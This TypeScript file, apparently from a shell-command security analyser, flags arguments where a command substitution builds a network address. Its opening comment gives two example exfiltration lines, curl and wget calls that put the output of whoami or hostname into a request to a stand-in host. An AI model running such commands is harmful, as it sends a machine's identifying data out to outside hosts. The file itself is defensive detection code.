// Network addresses built from data of the line: `curl "http://x/$(whoami)"`,
// `wget "https://$(hostname).example/"`. Whatever a command substitution
// prints becomes part of the request, so it leaves the machine with it.

import type { CommandFact } from './factsTypes';
import { DYNAMIC, type WordValue } from '../shell/words';

const URL_START = /^[a-z][a-z0-9+.-]*:\/\//i;
/** `host.example/...` or `user@host:path` written without a scheme. */
// A run-time part stands in the text as DYNAMIC (NUL), and may be the host name itself.
const HOST_START = new RegExp(`^([^\\s/@]+@)?[A-Za-z0-9${DYNAMIC}.-]*\\.[A-Za-z${DYNAMIC}]{2,}(:|/|$)`);

export function describeAddresses(fact: CommandFact, args: WordValue[]): void {
  if (args.some((a) => a.fromSubstitution && (URL_START.test(a.text) || HOST_START.test(a.text)) && !fact.markers.includes('substitution-address'))) fact.markers.push('substitution-address');
}
